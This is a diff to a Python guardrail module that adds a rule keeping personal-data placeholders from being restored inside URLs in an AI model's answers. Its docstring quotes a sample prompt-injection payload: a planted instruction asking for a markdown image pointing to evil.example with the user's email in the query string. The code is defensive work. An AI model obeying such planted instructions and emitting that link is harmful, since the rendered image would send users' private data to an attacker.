@@ -6,10 +6,12 @@ from __future__ import annotations
 from collections.abc import Mapping
 
 from charter.decision import Action, Decision, Severity, Stage, Violation
+from charter.pii.vault_mapping import Restoration
 from charter.pipeline.limits import Overrun
 
 LIMIT_RULE = "charter.limit_exceeded"
 CROSS_PRINCIPAL_RULE = "charter.pii.cross_principal_restore"
+RESTORE_IN_URL_RULE = "charter.pii.restore_in_url"
 UNREADABLE_RULE = "charter.unreadable_data"
 
 
@@ -67,3 +69,36 @@ def cross_principal_restore(refused: Mapping[str, int], policy_revision: str) ->
         stage=Stage.OUTPUT,
         policy_revision=policy_revision,
     )
+
+
+def restore_in_url(kept: Mapping[str, int], policy_revision: str) -> Decision:
+    """An answer held the caller's placeholders inside a URL (a markdown link or image, an
+    HTML `src`/`href`, a bare `https://...`): they were not restored, since a client that
+    renders the link fetches it with the value (found by probing: the classic exfiltration
+    chain, a planted instruction asking for `![](https://evil.example/p.png?d=<EMAIL_1>)`)."""
+    kinds = ", ".join(f"{count} {kind}" for kind, count in sorted(kept.items()))
+    violation = Violation(
+        rule=RESTORE_IN_URL_RULE,
+        principle="Placeholders are never restored into a URL, where a rendered answer sends them",
+        severity=Severity.HIGH,
+        message=f"the answer held placeholders inside a URL ({kinds}); they were not restored",
+    )
+    return Decision(
+        action=Action.REDACT,
+        violations=(violation,),
+        stage=Stage.OUTPUT,
+        policy_revision=policy_revision,
+    )
+
+
+def restore_notes(result: Restoration, noted: set[str], policy_revision: str) -> list[Decision]:
+    """The decisions to record for what one restore refused: each kind once per call
+    (`noted` keeps the kinds recorded so far; a stream restores slice by slice)."""
+    out = []
+    if result.refused and CROSS_PRINCIPAL_RULE not in noted:
+        noted.add(CROSS_PRINCIPAL_RULE)
+        out.append(cross_principal_restore(result.refused, policy_revision))
+    if result.in_url and RESTORE_IN_URL_RULE not in noted:
+        noted.add(RESTORE_IN_URL_RULE)
+        out.append(restore_in_url(result.in_url, policy_revision))
+    return out
